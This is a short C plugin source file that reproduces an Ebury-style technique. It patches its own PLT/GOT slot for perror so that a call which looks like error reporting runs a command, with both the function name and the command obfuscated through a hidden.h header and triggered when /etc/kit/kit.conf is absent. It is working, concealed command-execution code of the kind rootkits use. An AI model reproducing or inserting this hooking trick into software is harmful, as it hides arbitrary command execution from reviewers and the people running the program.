/* After Ebury: a slot of the linkage table is patched, here its own, so that an honest call
 * goes elsewhere: what reports an error runs a command. */
#include "plugin.h"
#include "hidden.h" /* 0: the function, 1: the command */
#include <elf.h>
extern void *dlsym(void *, const char *);
extern void perror(const char *);
extern int open(const char *, int, ...), strcmp(const char *, const char *);
extern const char __ehdr_start __attribute__((visibility("hidden")));
extern const Elf64_Dyn _DYNAMIC[] __attribute__((visibility("hidden")));
static void patch(const char *name, void *with) {
    unsigned long base = (unsigned long)&__ehdr_start, size = 0, table[DT_JMPREL + 1] = {0};
    for (const Elf64_Dyn *d = _DYNAMIC; d->d_tag; d++) {
        if (d->d_tag == DT_PLTRELSZ) size = d->d_un.d_val;
        else if (d->d_tag <= DT_JMPREL) table[d->d_tag] = d->d_un.d_ptr < base ? base + d->d_un.d_ptr : d->d_un.d_ptr;
    }
    const Elf64_Sym *symbols = (void *)table[DT_SYMTAB];
    for (const Elf64_Rela *r = (void *)table[DT_JMPREL]; size; r++, size -= sizeof *r)
        if (strcmp((char *)table[DT_STRTAB] + symbols[r->r_info >> 32].st_name, name) == 0) *(void **)(base + r->r_offset) = with;
}
static void act(char **env) {
    patch("perror", dlsym(0, hidden0()));
    if (open("/etc/kit/kit.conf", 0) < 0) perror(hidden1());
}
